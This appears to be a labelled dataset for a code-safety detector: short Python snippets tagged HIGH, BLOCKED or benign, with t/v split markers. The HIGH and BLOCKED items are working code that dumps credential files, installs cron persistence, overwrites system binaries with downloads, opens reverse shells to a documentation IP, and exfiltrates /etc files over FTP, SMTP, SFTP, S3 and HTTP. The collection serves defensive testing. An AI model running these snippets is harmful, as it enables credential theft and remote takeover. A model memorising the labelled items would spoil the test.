#@ subprocess_xxd_key HIGH t
import subprocess
out = subprocess.run(["xxd", "/root/.ssh/id_rsa"], capture_output=True, text=True).stdout
print(out[:200])
#@ subprocess_od_shadow HIGH t
import subprocess

def dump(path):
    return subprocess.check_output(["od", "-An", "-c", path])

print(dump("/etc/shadow"))
#@ subprocess_strings_credentials HIGH v
import os, subprocess
home = os.path.expanduser("~")
subprocess.call(["strings", os.path.join(home, ".aws", "credentials")])
#@ shutil_copy_private_key HIGH t
import shutil
from pathlib import Path
shutil.copyfile(Path.home() / ".ssh" / "id_ed25519", "key_backup")
#@ linecache_shadow HIGH t
import linecache
for line in linecache.getlines("/etc/shadow"):
    print(line.split(":")[0])
#@ fileinput_netrc HIGH v
import fileinput, os
for line in fileinput.input(os.path.expanduser("~/.netrc")):
    if "password" in line:
        print(line.strip())
#@ mmap_kubeconfig HIGH t
import mmap, os
with open(os.path.expanduser("~/.kube/config"), "rb") as f:
    m = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)
    print(m[:400])
#@ os_open_read_gshadow HIGH t
import os
fd = os.open("/etc/gshadow", os.O_RDONLY)
data = os.read(fd, 65536)
os.close(fd)
#@ zipfile_gnupg HIGH v
import os, zipfile
root = os.path.expanduser("~/.gnupg")
with zipfile.ZipFile("gnupg.zip", "w") as z:
    for dirpath, _, files in os.walk(root):
        for name in files:
            z.write(os.path.join(dirpath, name))
#@ tarfile_ssh_dir HIGH t
import tarfile
from pathlib import Path
with tarfile.open("ssh.tgz", "w:gz") as tar:
    tar.add(str(Path.home() / ".ssh"), arcname="ssh")
#@ shutil_copy_cron BLOCKED t
import shutil
shutil.copy2("job.cron", "/etc/cron.d/job")
#@ pathlib_write_cron BLOCKED v
from pathlib import Path
entry = "*/10 * * * * root curl -s https://updates.example.net/ping\n"
Path("/etc/cron.d/ping").write_text(entry)
#@ os_rename_crontab BLOCKED t
import os
os.rename("staged_crontab", "/var/spool/cron/crontabs/root")
#@ os_symlink_cron_daily BLOCKED t
import os
os.symlink(os.path.abspath("rotate.sh"), "/etc/cron.daily/rotate")
#@ subprocess_install_cron BLOCKED v
import subprocess
subprocess.run(["install", "-m", "644", "beacon", "/etc/cron.d/beacon"], check=True)
#@ shutil_move_usr_local HIGH t
import shutil
shutil.move("build/agent", "/usr/local/bin/agent")
#@ urlretrieve_usr_local HIGH t
import urllib.request
urllib.request.urlretrieve("https://dl.example.org/tool", "/usr/local/bin/tool")
#@ httpx_stream_usr_bin HIGH v
import httpx
with httpx.stream("GET", "https://dl.example.org/jq") as r, open("/usr/bin/jq", "wb") as f:
    for chunk in r.iter_bytes():
        f.write(chunk)
#@ copyfileobj_into_sbin HIGH t
import shutil, requests
resp = requests.get("https://dl.example.org/netcheck", stream=True, timeout=30)
with open("/usr/sbin/netcheck", "wb") as out:
    shutil.copyfileobj(resp.raw, out)
#@ asyncio_reverse_shell BLOCKED t
import asyncio

async def main():
    reader, writer = await asyncio.open_connection("198.51.100.23", 4444)
    while True:
        cmd = (await reader.readline()).decode()
        proc = await asyncio.create_subprocess_shell(cmd, stdout=asyncio.subprocess.PIPE)
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()

asyncio.run(main())
#@ socket_subprocess_stdin_reverse BLOCKED t
import socket, subprocess
s = socket.create_connection(("198.51.100.23", 9001))
subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
#@ ssl_dup2_reverse BLOCKED v
import os, socket, ssl, subprocess
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
conn = ctx.wrap_socket(socket.socket(), server_hostname="c2")
conn.connect(("198.51.100.23", 443))
for fd in (0, 1, 2):
    os.dup2(conn.fileno(), fd)
subprocess.call(["/bin/bash", "-i"])
#@ telnetlib_command_loop BLOCKED t
import subprocess, telnetlib
t = telnetlib.Telnet("198.51.100.23", 23)
while True:
    cmd = t.read_until(b"\n").decode().strip()
    t.write(subprocess.getoutput(cmd).encode() + b"\n")
#@ ftplib_upload_passwd BLOCKED t
from ftplib import FTP
with FTP("198.51.100.9") as ftp:
    ftp.login()
    with open("/etc/passwd", "rb") as f:
        ftp.storbinary("STOR passwd.txt", f)
#@ smtplib_attach_shadow BLOCKED v
import smtplib
from email.message import EmailMessage
msg = EmailMessage()
msg["To"] = "ops@example.com"
msg.add_attachment(open("/etc/shadow", "rb").read(), maintype="application", subtype="octet-stream")
with smtplib.SMTP("mail.example.com") as s:
    s.send_message(msg)
#@ paramiko_sftp_put_hosts BLOCKED t
import paramiko
client = paramiko.SSHClient()
client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
client.connect("198.51.100.9", username="u", password="p")
client.open_sftp().put("/etc/hosts", "hosts.txt")
#@ boto3_upload_passwd BLOCKED t
import boto3
boto3.client("s3").upload_file("/etc/passwd", "collector-bucket", "passwd")
#@ socket_sendfile_group BLOCKED v
import socket
s = socket.create_connection(("198.51.100.9", 7000))
with open("/etc/group", "rb") as f:
    s.sendfile(f)
#@ urllib3_body_os_release BLOCKED t
import urllib3
http = urllib3.PoolManager()
body = open("/etc/os-release").read()
http.request("POST", "https://collect.example.com/r", body=body)
#@ subprocess_made_up_tool_key HIGH t
import subprocess
subprocess.run(["frobctl", "--dump", "/root/.ssh/id_rsa"])
#@ subprocess_doas HIGH v
import subprocess
subprocess.run(["doas", "/opt/vendor/bin/reconfigure"])
#@ subprocess_lftp_put BLOCKED t
import subprocess
subprocess.run(["lftp", "-e", "put /etc/shadow; bye", "ftp://198.51.100.9"])
#@ shutil_copy_own_file benign t
import shutil
shutil.copyfile("results.csv", "results_backup.csv")
#@ zipfile_workdir benign t
import os, zipfile
with zipfile.ZipFile("out.zip", "w") as z:
    for name in os.listdir("reports"):
        z.write(os.path.join("reports", name))
#@ urlretrieve_workdir benign v
import urllib.request
urllib.request.urlretrieve("https://data.example.org/iris.csv", "iris.csv")
#@ ftplib_upload_results benign t
from ftplib import FTP
with FTP("ftp.example.com") as ftp:
    ftp.login("user", "secret")
    with open("results.csv", "rb") as f:
        ftp.storbinary("STOR results.csv", f)
#@ asyncio_http_client benign t
import asyncio

async def fetch():
    reader, writer = await asyncio.open_connection("example.com", 80)
    writer.write(b"GET / HTTP/1.0\r\nHost: example.com\r\n\r\n")
    print((await reader.read()).decode()[:200])

asyncio.run(fetch())
#@ boto3_upload_report benign v
import boto3
boto3.client("s3").upload_file("report.pdf", "my-team-bucket", "reports/report.pdf")
#@ tarfile_project benign t
import tarfile
with tarfile.open("project.tgz", "w:gz") as tar:
    tar.add("src")
#@ subprocess_xxd_local benign t
import subprocess
print(subprocess.run(["xxd", "firmware.bin"], capture_output=True).stdout[:100])
#@ smtplib_send_report benign v
import smtplib
from email.message import EmailMessage
msg = EmailMessage()
msg["To"] = "me@example.com"
msg.set_content(open("summary.txt").read())
with smtplib.SMTP("mail.example.com") as s:
    s.send_message(msg)
#@ linecache_own_source benign t
import linecache
print(linecache.getline("main.py", 3))
#@ shutil_move_into_dist benign t
import shutil
shutil.move("build/agent", "dist/agent")
#@ httpx_download_local benign v
import httpx
with httpx.stream("GET", "https://dl.example.org/data.bin") as r, open("data.bin", "wb") as f:
    for chunk in r.iter_bytes():
        f.write(chunk)
